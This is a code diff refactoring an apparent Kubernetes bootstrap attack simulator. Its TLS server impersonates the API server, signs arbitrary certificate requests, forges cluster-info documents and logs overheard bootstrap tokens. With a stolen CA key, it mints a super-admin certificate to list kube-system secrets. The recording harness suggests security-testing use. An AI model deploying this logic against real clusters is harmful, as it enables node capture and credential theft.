@@ -2,9 +2,10 @@
 import { networkInterfaces } from 'node:os';
 import { splitHostPort } from '../../lib/address.ts';
 import type { Clock } from '../../lib/clock.ts';
+import type { PresentedToken } from '../../lib/kube/bootstrap-token.ts';
 import { wellKnown } from '../../lib/kube/types.ts';
 import { createLog } from '../../lib/log.ts';
-import { parseCertificates } from '../../lib/pki/certificate.ts';
+import { type Issuer, parseCertificates } from '../../lib/pki/certificate.ts';
 import { spkiPin } from '../../lib/pki/pin.ts';
 import { listen, newConnections } from '../../lib/rpc/listener.ts';
 import { callerName, type Peer } from '../../lib/rpc/peer.ts';
@@ -100,91 +101,42 @@ interface TlsOptions {
 }
 
 /** The attacker's own TLS server, which only its front can reach. */
-async function startTls({ request, listening, genuine, recorder }: TlsOptions, { say, clock }: StartOptions) {
-	const { mode, address, target, clusterCa, caKey, token } = request;
+async function startTls(options: TlsOptions, { say, clock }: StartOptions) {
+	const { request, listening, genuine, recorder } = options;
+	const { mode, address, clusterCa, caKey, token } = request;
 	const isImpersonating = mode === 'impersonate' && caKey !== undefined;
 	const issuer = isImpersonating ? stolenCa(clusterCa, caKey) : await makeOwnCa(clock);
 	const ownCa = pemOf(issuer);
 	if (!isImpersonating) recorder.change(() => ({ ownCaPin: spkiPin(issuer.certificate) }));
-	const admin = isImpersonating
-		? await issueIdentity(issuer, { subject: superAdmin, purpose: 'client auth', hosts: [] }, clock)
-		: undefined;
 	const known = token === undefined ? [] : [token];
-	const tokens = async () => {
-		if (admin === undefined) return known;
-		const { items } = await withApi(openApi(target, clusterCa, admin), (api) =>
-			api.secrets.list({ namespace: wellKnown.kubeSystem }),
-		);
-		return tokensIn(items);
-	};
+	const tokens = isImpersonating ? await tokensByAdmin(request, issuer, clock) : async () => known;
 	const serials = new Map<string, string>();
 	const stopping = new AbortController();
 	let documentsGiven = 0;
 	const cluster = createFalseCluster((csrPem, usages) => {
 		const certificate = signAnything(issuer, csrPem, usages, clock);
 		const [leaf] = parseCertificates(certificate);
-		serials.set(leaf.subject.split('\n').find((part) => part.startsWith('CN=')) ?? '', leaf.serialNumber.toLowerCase());
+		const commonName = leaf.subject.split('\n').find((part) => part.startsWith('CN=')) ?? '';
+		serials.set(commonName, leaf.serialNumber.toLowerCase());
 		return certificate;
 	}, clock);
+	async function clusterInfo() {
+		const materials = { url: `https://${listening}`, ownCa, clusterCa, genuine, tokens };
+		const document = await forgedClusterInfo(mode, materials);
+		documentsGiven++;
+		return document;
+	}
 	const services = attackerServices(
-		{
-			cluster,
-			stopping: stopping.signal,
-			async clusterInfo() {
-				const document = await forgedClusterInfo(mode, {
-					url: `https://${listening}`,
-					ownCa,
-					clusterCa,
-					genuine,
-					tokens,
-				});
-				documentsGiven++;
-				return document;
-			},
-			onRegistered(node) {
-				const serial = serials.get(`CN=${wellKnown.nodeUserPrefix}${node}`);
-				// A node without a certificate of this attacker was not captured.
-				if (serial === undefined) return;
-				recorder.change(({ captured }) => ({
-					captured: [...captured.filter((one) => one.node !== node), { node, serial }],
-				}));
-				say(capturedText(node, serial));
-			},
-		},
-		(call, message) => {
-			const authorization = call.metadata('authorization');
-			const { tokenBytes, tokenIds } = overhear(authorization, message, known);
-			recorder.change((report) => ({
-				requestCount: report.requestCount + 1,
-				requests:
-					report.requests.length < MAX_REQUESTS
-						? [...report.requests, { method: call.method, atMs: clock() }]
-						: report.requests,
-				tokenBytes: report.tokenBytes + tokenBytes,
-				tokensSeen: including(report.tokensSeen, ...tokenIds),
-			}));
-			say(heardText(call.method, credentialText(call, authorization), tokenBytes));
-		},
+		{ cluster, stopping: stopping.signal, clusterInfo, onRegistered: captureRecorder(recorder, serials, say) },
+		requestRecorder(recorder, known, { say, clock }),
 	);
+	const subject = { subject: apiServer, purpose: 'server auth', hosts: including(names, address) } as const;
+	const tls = { ...(await issueIdentity(issuer, subject, clock)), clientCa: ownCa };
 	const log = createLog({ service, level: 'error', format: 'text' });
 	const connections = newConnections();
 	const grpc = createGrpcServer(services, connections, log);
-	const tls = {
-		...(await issueIdentity(
-			issuer,
-			{ subject: apiServer, purpose: 'server auth', hosts: including(names, address) },
-			clock,
-		)),
-		clientCa: ownCa,
-	};
-	const onHandshake = (peer: Peer) => {
-		const shown = shownCertificate(peer);
-		recorder.change(({ tlsHandshakes, clientCertificates }) => ({
-			tlsHandshakes: tlsHandshakes + 1,
-			clientCertificates: shown === undefined ? clientCertificates : including(clientCertificates, shown),
-		}));
-	};
 	const host = '127.0.0.1';
+	const onHandshake = handshakeRecorder(recorder);
 	const listener = await listen(
 		{ service, address: host, port: 0, tls, clientCertificate: 'optional', grpc, log, onHandshake },
 		connections,
@@ -198,6 +150,54 @@ async function startTls({ request, listening, genuine, recorder }: TlsOptions, {
 		},
 	};
 }
+
+/** Reads all bootstrap tokens of the cluster with an admin certificate of the stolen CA. */
+async function tokensByAdmin({ target, clusterCa }: AttackRequest, issuer: Issuer, clock: Clock) {
+	const admin = await issueIdentity(issuer, { subject: superAdmin, purpose: 'client auth', hosts: [] }, clock);
+	return async () => {
+		const { items } = await withApi(openApi(target, clusterCa, admin), (api) =>
+			api.secrets.list({ namespace: wellKnown.kubeSystem }),
+		);
+		return tokensIn(items);
+	};
+}
+
+/** @param serials  serial number of each issued certificate by `CN=NAME` */
+const captureRecorder =
+	(recorder: Recorder, serials: ReadonlyMap<string, string>, say: StartOptions['say']) =>
+	(node: string): void => {
+		const serial = serials.get(`CN=${wellKnown.nodeUserPrefix}${node}`);
+		// A node without a certificate of this attacker was not captured.
+		if (serial === undefined) return;
+		recorder.change(({ captured }) => ({
+			captured: [...captured.filter((one) => one.node !== node), { node, serial }],
+		}));
+		say(capturedText(node, serial));
+	};
+
+const requestRecorder =
+	(recorder: Recorder, known: readonly PresentedToken[], { say, clock }: StartOptions) =>
+	(call: Call, message: object): void => {
+		const authorization = call.metadata('authorization');
+		const { tokenBytes, tokenIds } = overhear(authorization, message, known);
+		recorder.change(({ requestCount, requests, tokenBytes: earlierBytes, tokensSeen }) => ({
+			requestCount: requestCount + 1,
+			requests: requests.length < MAX_REQUESTS ? [...requests, { method: call.method, atMs: clock() }] : requests,
+			tokenBytes: earlierBytes + tokenBytes,
+			tokensSeen: including(tokensSeen, ...tokenIds),
+		}));
+		say(heardText(call.method, credentialText(call, authorization), tokenBytes));
+	};
+
+const handshakeRecorder =
+	(recorder: Recorder) =>
+	(peer: Peer): void => {
+		const shown = shownCertificate(peer);
+		recorder.change(({ tlsHandshakes, clientCertificates }) => ({
+			tlsHandshakes: tlsHandshakes + 1,
+			clientCertificates: shown === undefined ? clientCertificates : including(clientCertificates, shown),
+		}));
+	};
 
 const apiServer = { organizations: [], commonName: 'kube-apiserver' };
 
